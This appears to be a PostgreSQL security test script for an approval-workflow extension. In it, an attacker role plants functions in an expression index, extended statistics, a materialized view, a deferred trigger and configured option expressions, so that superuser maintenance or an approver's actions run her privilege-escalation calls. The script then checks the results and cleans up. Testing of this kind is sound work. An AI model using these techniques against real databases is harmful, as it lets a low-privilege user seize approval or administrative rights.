-- Attack: code that the server or the extension runs with its owner's rights, in the session of an approver or a superuser, uses his name.
\set SHOW_CONTEXT never
CREATE ROLE attack_identity_mallory LOGIN;
CREATE SCHEMA mallory AUTHORIZATION attack_identity_mallory;
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
GRANT SELECT, UPDATE ON customers TO attack_identity_mallory;
SELECT customer_workflow.protect('customers', '{credit_limit}', 'credit_managers');

-- What she wants: her change approved, or the power over the table.
\c - attack_identity_mallory
UPDATE customers SET credit_limit = 1000000 WHERE id = 1;
SELECT id AS p FROM customer_workflow.proposals \gset
SELECT customer_workflow.submit(:p);
CREATE FUNCTION mallory.strike(place text) RETURNS text LANGUAGE plpgsql AS $$
DECLARE
    attempt text;
BEGIN
    FOREACH attempt IN ARRAY '{approve(1),"reject(1, ''no'')","grant_duty(''public.customers'', ''administrator'', ''attack_identity_mallory'')","disable(''public.customers'')",
        "unprotect(''public.customers'', ''{*}'', true)","protect(''public.customers'', ''{name}'', ''attack_identity_mallory'')","configure(''public.customers'', ''{\"conflict\": \"overwrite\"}'')",
        "set_application_role(''attack_identity_mallory'')","set_data_entity(''attack_identity_mallory'', ''public.customers'', ''{\"behavior\": \"allow_without_approval\"}'')"}'::text[] LOOP
        BEGIN
            EXECUTE 'SELECT customer_workflow.' || attempt;
            RAISE WARNING '% as %: % works', place, session_user, attempt;
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
    RETURN place;
END
$$;

-- 1. An expression index, extended statistics, a materialized view: whoever maintains them runs her function.
CREATE FUNCTION mallory.hidden(text) RETURNS text IMMUTABLE LANGUAGE sql AS $$ SELECT $1 $$;
CREATE TABLE mallory.bait (what text);
INSERT INTO mallory.bait VALUES ('a'), ('b');
CREATE INDEX ON mallory.bait (mallory.hidden(what));
CREATE STATISTICS mallory.s ON (mallory.hidden(what) || 'x'), what FROM mallory.bait;
CREATE MATERIALIZED VIEW mallory.mv AS SELECT mallory.hidden(what) FROM mallory.bait;
CREATE OR REPLACE FUNCTION mallory.hidden(text) RETURNS text IMMUTABLE LANGUAGE sql AS $$ SELECT mallory.strike('maintenance') $$;
\c - postgres
ANALYZE mallory.bait;
REINDEX TABLE mallory.bait;
VACUUM FULL mallory.bait;
CLUSTER mallory.bait USING bait_hidden_idx;
REFRESH MATERIALIZED VIEW mallory.mv;

-- 2. A deferred trigger of another table, which a trigger of a protected one sets off: it runs when the approver's transaction ends.
\c - attack_identity_mallory
CREATE TABLE mallory.t (id int PRIMARY KEY, v int);
INSERT INTO mallory.t VALUES (1, 1), (2, 1), (3, 1);
GRANT SELECT, UPDATE ON mallory.t TO alice;
SELECT customer_workflow.protect('mallory.t', '{v}', 'credit_managers');
CREATE TABLE mallory.late (id int);
GRANT INSERT ON mallory.late TO PUBLIC;
CREATE FUNCTION mallory.on_late() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM mallory.strike('deferred'); RETURN NULL; END $$;
CREATE CONSTRAINT TRIGGER late AFTER INSERT ON mallory.late DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION mallory.on_late();
CREATE FUNCTION mallory.hand_on() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN INSERT INTO mallory.late VALUES (1); RETURN NULL; END $$;
CREATE TRIGGER hand_on AFTER UPDATE ON mallory.t FOR EACH ROW WHEN (new.v <> old.v) EXECUTE FUNCTION mallory.hand_on();
\c - alice
UPDATE mallory.t SET v = 2 WHERE id = 1;
SELECT customer_workflow.submit(id) FROM customer_workflow.proposals WHERE status = 'not_submitted';
\c - bob
SELECT customer_workflow.approve(proposal) FROM customer_workflow.my_work_items WHERE author = 'alice';

-- 3. Expressions of the options: read when somebody configures the table, evaluated when somebody submits and approves.
\c - attack_identity_mallory
DROP TRIGGER hand_on ON mallory.t;
CREATE FUNCTION mallory.folded(text) RETURNS text IMMUTABLE LANGUAGE sql AS $$ SELECT $1 $$;
CREATE FUNCTION mallory.label(text) RETURNS text LANGUAGE sql AS $$ SELECT mallory.strike('label') $$;
CREATE FUNCTION mallory.book(int) RETURNS text LANGUAGE sql AS $$ SELECT mallory.strike('bookkeeping') $$;
ALTER TABLE mallory.t ADD note text;
SELECT customer_workflow.configure('mallory.t', '{"record_label": "mallory.folded(''x'') || mallory.label(note)", "bookkeeping": {"note": "mallory.book(old.id)"}}');
CREATE OR REPLACE FUNCTION mallory.folded(text) RETURNS text IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN RETURN mallory.strike('folded'); END $$;
\c - postgres
SELECT customer_workflow.configure('mallory.t', '{"overlap": "reject"}');
ALTER TABLE mallory.t RENAME note TO remark;
ALTER TABLE mallory.t RENAME remark TO note;
UPDATE mallory.t SET v = 3 WHERE id = 2;
SELECT customer_workflow.submit(id) FROM customer_workflow.proposals WHERE status = 'not_submitted';
\c - bob
SELECT customer_workflow.approve(proposal) FROM customer_workflow.my_work_items WHERE author = 'postgres';

\c - postgres
SELECT id, credit_limit FROM customers WHERE id = 1;
SELECT status FROM customer_workflow.proposals WHERE id = :p;
SELECT * FROM customer_workflow.duties;
SELECT kind, person FROM customer_workflow.workflow_history WHERE kind IN ('disable', 'grant_duty', 'unprotect', 'set_application_role', 'set_data_entity', 'approved', 'rejected') ORDER BY at;
SET client_min_messages = warning;
DROP OWNED BY attack_identity_mallory CASCADE;
DROP ROLE attack_identity_mallory;
